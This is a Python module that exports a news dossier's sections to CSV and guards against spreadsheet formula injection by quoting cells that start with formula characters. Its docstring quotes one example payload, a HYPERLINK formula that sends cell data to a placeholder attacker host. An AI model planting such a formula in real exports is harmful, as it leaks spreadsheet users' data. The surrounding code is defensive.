"""CSV export: one file per dossier section, for spreadsheets.

Lists and nested objects (authors, spans) are written as JSON inside the cell so that nothing is
lost and a script can read them back; plain scalars stay plain.

Article text is untrusted and a spreadsheet runs a cell that starts with = + - @ (or a tab or a
carriage return, which some read past) as a formula: a title `=HYPERLINK("https://evil.example/?"&A1)`
would send the reader's data away when clicked. Following OWASP's advice on CSV injection, such a
text cell is written with a leading single quote, which spreadsheets show as text; numbers (ints and
floats, such as offsets and figures) are never strings here, so a negative figure stays a number.
A script reading the CSV back sees the quote: strip one leading "'" from text cells that start
with "'" followed by one of these characters.
"""

from __future__ import annotations

import csv
import json
import sqlite3
from pathlib import Path
from typing import Any

from storyline.export.dossier import SECTIONS, build_dossier

# Columns of each section, so empty sections still get a header row.
COLUMNS: dict[str, list[str]] = {
    "documents": ["id", "source", "part", "title", "outlet", "authors", "published", "published_basis",
                  "language", "translation", "duplicate_of", "story", "url", "text"],
    "entities": ["id", "name", "type", "aliases", "roles", "mentions"],
    "times": ["id", "doc", "start", "end", "text", "value", "anchor"],
    "events": ["id", "type", "date", "date_end", "place", "participants", "summary", "evidence"],
    "quotes": ["id", "doc", "start", "end", "text", "direct", "speaker", "speaker_text", "anonymous"],
    "claims": ["id", "doc", "start", "end", "text", "subject", "measure", "value", "value_max", "unit", "as_of",
               "status", "bound", "hedged", "attributed_to"],
    "conflicts": ["kind", "items", "note"],
    "stories": ["id", "label", "documents"],
    "positions": ["id", "date", "party", "holder", "holder_text", "kind", "issue", "subissue", "text", "content",
                  "sourcing", "hedged", "document", "points", "answers", "status", "n_sources", "doc", "start", "end"],
    "issues": ["id", "label", "subissues", "parties", "proposals"],
    "judgements": ["id", "action", "kind", "label", "value", "author", "created", "reason", "status", "problem",
                   "undone", "refs", "uid"],
}  # fmt: skip


# OWASP's list, plus the full-width forms (＝ ＋ － ＠) that some spreadsheets also read as formulas
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def _cell(v: Any) -> Any:
    if isinstance(v, (list, dict)):
        return json.dumps(v, ensure_ascii=False)  # starts with [ or {: never a formula
    if isinstance(v, str) and v.startswith(FORMULA_START):
        return "'" + v
    return "" if v is None else v


def write_csv(conn: sqlite3.Connection, folder: Path) -> dict[str, int]:
    dossier = build_dossier(conn)
    folder.mkdir(parents=True, exist_ok=True)
    sizes: dict[str, int] = {}
    for section in SECTIONS:
        rows = dossier[section]
        cols = COLUMNS[section] + sorted({k for r in rows for k in r} - set(COLUMNS[section]))
        tmp = folder / f".{section}.csv.tmp"
        with tmp.open("w", encoding="utf-8", newline="") as fh:
            w = csv.DictWriter(fh, fieldnames=cols)
            w.writeheader()
            for r in rows:
                w.writerow({c: _cell(r.get(c)) for c in cols})
        tmp.replace(folder / f"{section}.csv")
        sizes[section] = len(rows)
    return sizes
